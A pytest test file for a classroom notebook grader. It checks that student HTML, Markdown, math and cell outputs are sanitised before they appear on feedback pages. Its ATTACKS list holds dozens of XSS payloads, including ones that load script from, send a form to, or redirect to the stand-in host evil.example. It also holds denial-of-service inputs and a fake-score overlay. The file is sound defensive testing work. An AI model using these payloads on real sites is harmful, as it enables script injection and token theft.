"""Nothing that a student wrote or displayed runs, loads or lies in the pages that others open."""

from __future__ import annotations

import html
import re
import time
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell
from traitlets.config import Config

from graders.classroom.config import configure
from graders.classroom.mathml import mathml, typeset
from graders.classroom.pages import FeedbackExporter, highlight_code, markdown2html
from graders.classroom.safety import Budget, clean_html, clean_markdown, clean_output

PIXEL = "iVBORw0KGgo="
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#9;script:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='http://evil.example'><input name=token></form>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>Score: 99</div>",
    "<object data='javascript:alert(1)'></object>",
    "<details ontoggle=alert(1) open>x</details>",
    "<b onclick=alert(1)>x</b>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea></title><script>alert(1)</script>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x]( <javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$$\style{x}{<img src=x onerror=alert(1)>}$$",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\n<script>alert(1)</script>\n```",
    "~~~\n</code></pre><script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "$x$</math><script>alert(1)</script>",
    "\ue0000\ue001<script>alert(1)</script>$x$",
]
SAFE = re.compile(r"(?:https?://|#|mailto:)")


class Hazards(HTMLParser):
    """What a browser would act on in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in "script style iframe object embed form input base meta link svg body template".split():
            self.found.append(tag)
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("srcdoc", "action", "formaction", "xlink:href"):
                self.found.append(name)
            if name == "href" and not SAFE.match(value):
                self.found.append(value)
            if name == "src" and not value.startswith("data:image/"):
                self.found.append(value)
            if name == "style" and re.search(r"url|position|expression|display|z-index", value):
                self.found.append(value)

    handle_startendtag = handle_starttag


def hazards(page: str) -> list[str]:
    parser = Hazards()
    parser.feed(page)
    parser.close()
    return parser.found


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("way", ["html", "html, typeset", "markdown", "markdown, cleaned first"])
def test_attack_on_the_page_is_harmless(attack: str, way: str) -> None:
    page = {
        "html": lambda: clean_html(attack),
        "html, typeset": lambda: typeset(clean_html(attack)),
        "markdown": lambda: markdown2html({}, attack),
        "markdown, cleaned first": lambda: markdown2html({}, clean_markdown(attack)),
    }[way]()
    assert hazards(page) == []


@pytest.mark.parametrize("attack", ATTACKS[:26])
def test_attack_on_a_page_that_nbconvert_renders(attack: str) -> None:
    # Cleaned Markdown is safe even where another renderer takes every tag as it comes.
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    assert hazards(markdown2html_mistune(clean_markdown(attack))) == []


@pytest.mark.parametrize("macro", ["href", "mmlToken", "cssId", "def"])
def test_a_macro_that_acts_is_a_word(macro: str) -> None:
    # The graded notebook is also opened where MathJax reads it.
    assert clean_markdown(f"$\\{macro}{{mi}}[href='javascript:x']{{x}}$").startswith(f"$\\text{{{macro}}}")


KEPT = {
    "emphasis": ("a <b>bold</b> H<sub>2</sub>O", "a <b>bold</b> H<sub>2</sub>O"),
    "less than, in a formula": ("$a<b$ and $c < d$", "$a< b$ and $c < d$"),
    "a link": ("<https://example.org/x>", "<https://example.org/x>"),
    "prose with a colon": ("the file: x, data: y", "the file: x, data: y"),
    "a picture of the notebook's own": (
        f"![p](data:image/png;base64,{PIXEL})",
        f"![p](data:image/png;base64,{PIXEL})",
    ),
}


@pytest.mark.parametrize("case", KEPT)
def test_what_is_harmless_stays(case: str) -> None:
    source, kept = KEPT[case]
    assert clean_markdown(source) == kept


ROWS = "<tr>" + "<td>1.25</td>" * 20 + "</tr>"
TABLE = f'<table border="1" class="dataframe"><thead>{ROWS}</thead><tbody>{ROWS * 59}</tbody></table>'
BOLD = [f"<b title={number}>" for number in range(11_000)]
# HTML that takes hours to clean, or an interpreter's stack: browsers open emphasis again and again.
TOO_MUCH = {
    "closing what is not open": "</p>".join(BOLD),
    "closing in a value": "".join(f"<b title='{number}</b>'>" for number in range(9000)),
    "closing in a value of odd quotes": "".join(f"<b title='{number}' ='</b>'>" for number in range(9000)),
    "closing in a comment": "<!--</b>-->".join(BOLD[:9000]),
    "closing in a declaration": "<!</b>".join(BOLD[:9000]),
    "closing inside a table": "<table></b></table>".join(BOLD[:6000]),
    "opened again in each paragraph": "".join(BOLD[:95]) + "<p>x</p>" * 2000,
    "a table in a table": "<table><tr><td>" * 300,
    "one tag after the other": "<b>x</b>" * 3000,
}


@pytest.mark.parametrize("case", TOO_MUCH)
def test_html_that_takes_too_long_to_clean_is_shown_as_text(case: str) -> None:
    assert clean_html(TOO_MUCH[case]).startswith("<pre>&lt;")


def test_a_notebook_has_a_budget_for_html() -> None:
    budget = Budget(1_500_000)
    found = [clean_html(TABLE, budget).startswith('<table class="dataframe">') for _ in range(20)]
    assert found[:5] == [True] * 5 and not found[-1]


@pytest.mark.parametrize(
    "style",
    [
        "margin-top: -2000px",
        "margin-top:- 2px",
        "width: calc(0px - 9px)",
        "width:" + "(" * 20_000,
        "font-size: " + "1" * 2000,
    ],
)
def test_a_style_that_reaches_out_of_its_output_goes(style: str) -> None:
    assert clean_html(f'<p style="{style}">x</p>') == "<p>x</p>"


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ('<p class="verdict correct">x</p>', "<p>x</p>"),
        ('<table class="dataframe"></table>', '<table class="dataframe"></table>'),
        ('<p style="text-align: right; color: rgb(1, 2, 3);">x</p>',) * 2,
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("1 < 2 <3 <b>x</b>", "1 &lt; 2 &lt;3 <b>x</b>"),
        ("<!DOCTYPE html><!-- x --><b>x</b>", "<b>x</b>"),
    ],
)
def test_html_keeps_what_is_its_own(source: str, kept: str) -> None:
    assert clean_html(source) == kept


LONG_MARKDOWN = {
    "environments": ("\\begin{a}" * 22_000, "<pre>\\begin{a}"),
    "brackets": ("\\\\[" * 6000, "<pre>\\\\["),
    "emphasis": ("*a* " * 4000, "<pre>*a*"),
    "prose": ("**a** b c d e f g h i j k l\n\n" * 1000, "<p><strong>a</strong> b"),
}


@pytest.mark.parametrize("case", LONG_MARKDOWN)
def test_of_very_long_markdown_the_rest_is_text(case: str) -> None:
    source, start = LONG_MARKDOWN[case]
    page = markdown2html({}, source)
    assert page.startswith(start) and page.count("<") < 15_000
    assert html.unescape(page).count(source[:6]) > 0


def test_a_page_has_a_budget_for_markdown() -> None:
    context = {"resources": {"matcalc_budget": Budget(300_000)}}
    pages = [markdown2html(context, f"{number} **a**\n\n" * 500) for number in range(60)]
    assert "<strong>" in pages[0] and pages[-1].startswith("<pre>59 **a**")


LONG_CODE = ["a." * 500_000, "f'{" * 300_000, "&" * 1_000_000, "@\n" * 500_000, "x = 1\n" * 160_000]


@pytest.mark.parametrize("source", LONG_CODE, ids=lambda source: source[:3].strip())
def test_very_long_code_is_not_coloured(source: str) -> None:
    nb = new_notebook(cells=[new_code_cell(source), new_code_cell("y = 2")], metadata={"matcalc": {}})
    start = time.process_time()
    resources = {"nbgrader": {"notebook": "A05", "score": 0, "max_score": 1, "late_penalty": 0}}
    page, _ = FeedbackExporter().from_notebook_node(nb, resources)
    assert time.process_time() - start < 10
    assert page.count("<span") < 500 and '<span class="n">y</span>' in page
    assert source[:3].strip() in html.unescape(page)


KINDS = {"code": new_code_cell, "markdown": new_markdown_cell, "raw": new_raw_cell}


@pytest.mark.parametrize("kind", KINDS)
def test_a_page_of_the_formgrader_is_made_in_no_time(kind: str) -> None:
    c = Config()
    configure(c)
    cells = [new_code_cell("y = 2")] + [KINDS[kind](text) for text in ("&" * 1_000_000, "a." * 500_000)]
    start = time.process_time()
    resources = {"index": 0, "total": 1}
    page, _ = HTMLExporter(config=c).from_notebook_node(new_notebook(cells=cells), resources)
    assert time.process_time() - start < 10
    assert '<span class="n">y</span>' in page and "&amp;&amp;" in page and "a.a." in page


def test_a_page_has_a_budget_for_colours() -> None:
    context = {"resources": {"matcalc_budget": Budget(500_000)}}
    pages = [highlight_code(context, "x = 1\n" * 1000) for _ in range(10)]
    assert "<span" in pages[0] and "<span" not in pages[-1] and "x = 1" in pages[-1]


FORMULAS = [
    r"\frac{\partial \mathbf{y}}{\partial \mathbf{x}}",
    r"\begin{bmatrix} 1 & 2 \\ 3 & 4 \end{bmatrix}",
    r"\begin{cases} 0 & x < 0 \\ 1 & x \ge 0 \end{cases}",
    r"\begin{aligned} a &= b \\ &= c \end{aligned}",
    r"\mathbb{1}_{z>0} \odot \vec{1}^\top",
    r"\operatorname{diag}(\mathbf w) \otimes \boldsymbol{x}",
    r"\left(\sum_{i=1}^{n} x_i\right)^2",
    r"\sqrt{x^2} \cdot \lVert \mathbf x \rVert \ne \infty",
]


@pytest.mark.parametrize("latex", FORMULAS)
def test_formulas_become_mathml(latex: str) -> None:
    element = ElementTree.fromstring(mathml(latex))
    assert element.tag.endswith("math")
    assert "\\" not in "".join(element.itertext())


def test_bold_and_indicator_letters_are_letters() -> None:
    # MathML Core ignores every mathvariant but normal.
    assert "𝐱" in mathml(r"\mathbf{x}")
    assert "𝟏" in mathml(r"\mathbf{1}")
    assert "𝟙" in mathml(r"\mathbb{1}")


@pytest.mark.parametrize("latex", [r"\frac{", r"\begin{bmatrix}", "{" * 5000, r"\left(", "x" * 10_000, ""])
def test_a_formula_that_cannot_be_read_is_shown_as_it_is(latex: str) -> None:
    assert mathml(latex).startswith("<code>")


def test_typesetting_leaves_code_and_money_alone() -> None:
    page = typeset("<p>$x$ costs $5 or $6</p><code>$y$</code><pre>$z$</pre>")
    assert page.count("<math") == 1
    assert "costs $5 or $6" in page


def test_outputs_keep_what_a_person_looks_at() -> None:
    output = {
        "output_type": "execute_result",
        "execution_count": 3,
        "data": {
            "text/plain": "x**2",
            "text/latex": "$x^2$",
            "application/javascript": "alert(1)",
            "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            "image/png": PIXEL,
        },
        "metadata": {"text/html": {"isolated": True}},
    }
    clean = clean_output(output)
    assert clean is not None
    assert clean["data"] == {"text/plain": "x**2", "text/markdown": "$x^2$", "image/png": PIXEL}
    assert clean["metadata"] == {}


@pytest.mark.parametrize(
    "output",
    [
        None,
        3,
        {},
        {"output_type": "x"},
        {"output_type": "display_data"},
        {"output_type": "display_data", "data": []},
        {"output_type": "display_data", "data": {"image/png": "<script>"}},
    ],
)
def test_outputs_of_wrong_types_vanish(output: object) -> None:
    assert clean_output(output) is None


def test_a_drawing_cannot_run() -> None:
    clean = clean_output(
        {"output_type": "display_data", "data": {"image/svg+xml": "<svg onload='alert(1)'/>"}}
    )
    assert clean is not None
    assert hazards(clean["data"]["text/html"]) == []
    assert clean["data"]["text/html"].startswith("<img ")
